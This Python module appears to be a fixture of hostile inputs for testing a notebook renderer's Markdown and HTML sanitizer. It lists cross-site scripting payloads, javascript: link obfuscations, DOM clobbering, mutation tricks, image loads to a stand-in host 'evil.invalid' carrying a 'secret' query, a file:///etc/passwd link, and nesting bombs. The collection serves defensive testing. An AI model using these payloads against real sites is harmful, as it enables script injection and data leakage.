"""Texts that try to run, load or change something; each would leave the same few traces."""

from __future__ import annotations

RUN = "window.pwned=1,alert(1)"
"""What a script would do."""
MARKED = "#pwned, .pwned, [name=pwned], [data-pwned], [data-commandlinker-command=pwned]"
"""What an element that got through would match."""
EVIL = "https://evil.invalid"
"""Stands for the host that must not be asked."""

HTML = {
    "script": f"<script id=pwned>{RUN}</script>",
    "image that fails": f'<img id=pwned src=x onerror="{RUN}">',
    "image elsewhere": f'<img id=pwned src="{EVIL}/html.png" srcset="{EVIL}/set.png 2x">',
    "svg": f"<svg onload=\"{RUN}\"><image href='{EVIL}/svg.png'/></svg>",
    "svg in math": f"<math><mtext><img src=x onerror='{RUN}'></mtext></math>",
    "frame": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "object": f"<object data='{EVIL}/object'></object><embed src='{EVIL}/embed'>",
    "style": f"<style>@import '{EVIL}/style.css'; body {{ display: none }}</style>",
    "style attribute": f"<p class=pwned style=\"background:url('{EVIL}/bg.png')\">x</p>",
    "link and base": f"<link rel=stylesheet href='{EVIL}/l.css'><base href='{EVIL}/'>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/refresh'>",
    "media": f"<video src='{EVIL}/v' poster='{EVIL}/p'></video><audio src='{EVIL}/a'></audio>",
    "form": f"<form id=pwned action='{EVIL}/form'><input name=pwned autofocus></form>",
    "command button": "<button data-commandlinker-command=pwned data-pwned=1>Click</button>",
    "command span": (
        "<span data-commandlinker-command=pwned data-commandlinker-args='{}'>Click</span>"
    ),
    "clobbering": (
        "<a id=jupyterapp></a><a id=jupyterapp name=shell></a><img name=getElementById>"
        "<form id=body name=cookie><input name=attributes></form>"
    ),
    "shadow": f"<div><template shadowrootmode=open><script>{RUN}</script></template></div>",
    "broken comment": f"<!--><img src=x onerror={RUN}>-->",
    "mutation": f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
}

LINKS = {
    "plain": f"[a](javascript:{RUN})",
    "mixed case": f"[b](JaVaScRiPt:{RUN})",
    "entities": f"[c](&#x6A;avascript&colon;{RUN})",
    "tab": f"[d](java&Tab;script:{RUN}) [d](java&NewLine;script:{RUN})",
    "control": f"[e](<\x01javascript:{RUN}>)",
    "escapes": f"[f](javascript\\:{RUN}) [f](%6Aavascript:{RUN})",
    "reference": f"[g][bad]\n\n[bad]: javascript:{RUN}",
    "autolink": f"<javascript:{RUN}>",
    "html": f'<a id=pwned href="javascript:{RUN}">h</a>',
    "vbscript": "[i](vbscript:msgbox(1))",
    "page as data": f"[j](data:text/html,<script>opener.{RUN}</script>)",
    "page as data, coded": "[k](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "relative": "[l](/api/shutdown) [l](//evil.invalid/x) [l](../lab?reset)",
    "file and blob": "[m](file:///etc/passwd) [m](blob:null/1)",
    "title": f'[n](https://example.org "\\" onclick={RUN} id=pwned")',
}

IMAGES = {
    "markdown": f"![one]({EVIL}/one.png?q=secret)",
    "reference": f"![two][far]\n\n[far]: {EVIL}/two.png",
    "collapsed reference": f"![far off][]\n\n[far off]: {EVIL}/three.png",
    "shortcut reference": f"![far away]\n\n[far away]: {EVIL}/four.png",
    "in a link": f"[![five]({EVIL}/five.png)](https://example.org)",
    "in brackets": f"![six](<{EVIL}/six.png>)",
    "in a table": f"| a |\n| --- |\n| ![seven]({EVIL}/seven.png) |",
    "nested label": f"![eight ![inner]({EVIL}/inner.png)]({EVIL}/eight.png)",
    "alt": f'![" onerror={RUN} id=pwned x="]({EVIL}/alt.png)',
    "over lines": f"![nine\nlines]({EVIL}/nine.png\n'a title')",
    "entities": f"![ten](&#104;ttps://evil.invalid/ten.png) !&#91;ten]({EVIL}/ten.png)",
    "svg as data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "no scheme": "![x](//evil.invalid/eleven.png) ![x](\\\\evil.invalid/twelve.png)",
    "script": f"![x](javascript:{RUN})",
}

FORMULAS = {
    "href": f"$\\href{{javascript:{RUN}}}{{x}}$ $\\url{{javascript:{RUN}}}$",
    "picture": f"$\\includegraphics[height=1em]{{{EVIL}/formula.png}}$",
    "classes": "$\\htmlClass{pwned}{x}\\htmlId{pwned}{y}\\htmlData{pwned=1}{z}$",
    "classes of MathJax": "$\\class{pwned}{x}\\cssId{pwned}{y}$",
    "style": f"$\\htmlStyle{{background:url({EVIL}/h.png)}}{{x}}$",
    "style of MathJax": f"$\\style{{background-image:url({EVIL}/m.png)}}{{x}}$",
    "unicode": f"$$\\unicode{{<img src=x onerror={RUN}>}}$$",
    "text": f"$\\text{{<img id=pwned src=x onerror={RUN}>}}$",
    "endless": "$\\def\\a{\\a\\a}\\a$ $\\rule{9999em}{9999em}$",
}

CODE = {
    "language": f'```"><img id=pwned src=x onerror={RUN}>\ncode\n```',
    "language as class": "```pwned jp-Dialog lm-Widget\ncode\n```",
    "html": f"```html\n<img id=pwned src=x onerror={RUN}>\n<script>{RUN}</script>\n```",
    "diagram": f'```mermaid\nflowchart LR\n  a@{{ img: "{EVIL}/diagram.png", label: "x" }}\n```',
    "diagram's links": f'```mermaid\nflowchart LR\n  a --> b\n  click a "javascript:{RUN}"\n```',
    "diagram's style": (
        f"```mermaid\n%%{{init: {{'themeCSS': '@import url({EVIL}/d.css);'}}}}%%\n"
        f"flowchart LR\n  a[\"<img src='{EVIL}/label.png'>\"] --> b\n```"
    ),
    "span": f"`<img id=pwned src=x onerror={RUN}>`",
    "fence that ends early": f"~~~\n```\n~~~\n![thirteen]({EVIL}/thirteen.png)\n\n```\n```",
}

HUGE = {
    "quotes": "> " * 400 + "deep",
    "lists": "\n".join("  " * depth + "- x" for depth in range(150)),
    "brackets": "[" * 3000 + "a" + "]" * 3000,
    "emphasis": "*a **b " * 1500,
    "table": "|" * 1500 + "\n" + "|-" * 1500 + "|",
    "one word": "x" * 30_000,
}

UNFINISHED = f"```html\n<img id=pwned src=x onerror={RUN}>"

ALL = {
    f"{kind}: {name}": text
    for kind, texts in {
        "html": HTML,
        "link": LINKS,
        "image": IMAGES,
        "formula": FORMULAS,
        "code": CODE,
        "huge": HUGE,
    }.items()
    for name, text in texts.items()
}


def aimed_at(evil: str, text: str) -> str:
    """The text with the host that must not be asked."""
    return text.replace(EVIL, evil)
